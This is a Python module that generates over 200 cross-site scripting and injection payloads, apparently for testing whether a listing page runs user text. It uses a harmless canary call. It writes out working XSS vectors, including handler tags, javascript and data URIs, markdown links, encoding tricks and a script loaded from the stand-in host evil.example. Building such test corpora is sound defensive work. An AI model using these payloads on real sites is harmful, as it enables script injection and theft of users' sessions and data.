"""More than 200 ways to make a page run what a listing says, made from families."""

from itertools import product

# Every payload calls this name: wherever a page would run it, the name is there.
CANARY = "canari"

_CALLS = (f"{CANARY}(1)", f"{CANARY}`1`", f"window['{CANARY}'](1)", f"&#99;anari({CANARY})")
_TAGS = ("script", "ScRiPt", "svg", "img", "iframe", "body", "math", "details", "video", "object")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "OnBegin")
_BREAKS = ('"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "//evil.example/",
    "\x01javascript:",
    "javascript&colon;",
)


def payloads() -> list[str]:
    """Give them all, each different."""
    call = f"{CANARY}(1)"
    found = [f"<script>{each}</script>" for each in _CALLS]
    found += [f"<script src=//evil.example/{CANARY}.js nonce></script>", f"<base href=//{CANARY}/>"]
    found += [f"<{tag} {handler}={call}>" for tag, handler in product(_TAGS, _HANDLERS)]
    found += [f"{cut}<script>{call}</script>" for cut in _BREAKS]
    found += [f"{cut} {handler}={call} x=" for cut, handler in product(_BREAKS, _HANDLERS)]
    found += [f'<a href="{scheme}{call}">x</a>' for scheme in _SCHEMES]
    found += [f"[x]({scheme}{call})" for scheme in _SCHEMES]
    found += [f"![x]({scheme}{call})" for scheme in _SCHEMES]
    found += [f"<{scheme}{call}>" for scheme in _SCHEMES]
    found += [f'[x]: {scheme}{call}\n\n[x] "{call}"' for scheme in _SCHEMES]
    found += [f"{{{{ {CANARY} }}}}", f"{{% {CANARY} %}}", f"${{{CANARY}}}", f"#{{{CANARY}}}"]
    found += [f"<style>@import '{CANARY}'</style>", f"<p style=x:expression({call})>"]
    found += [f"<form action=javascript:{call}><button>", f"<button formaction=javascript:{call}>"]
    found += [f"<iframe srcdoc='<script>{call}</script>'>", f"<meta http-equiv=refresh {CANARY}>"]
    found += [f"<svg><a xlink:href=javascript:{call}>", f"<svg><animate onbegin={call}>"]
    found += [f"\u2028<script>{call}</script>", f"＜script＞{call}＜/script＞", f"<!--{CANARY}-->"]
    found += [f"<noscript><p title='</noscript><img src=x onerror={call}>'>", f"<x{CANARY}>"]
    found += [
        f"%3Cscript%3E{call}%3C/script%3E",
        f"\\u003cscript\\u003e{call}",
        f"<%00script>{call}",
    ]
    return sorted(set(found))
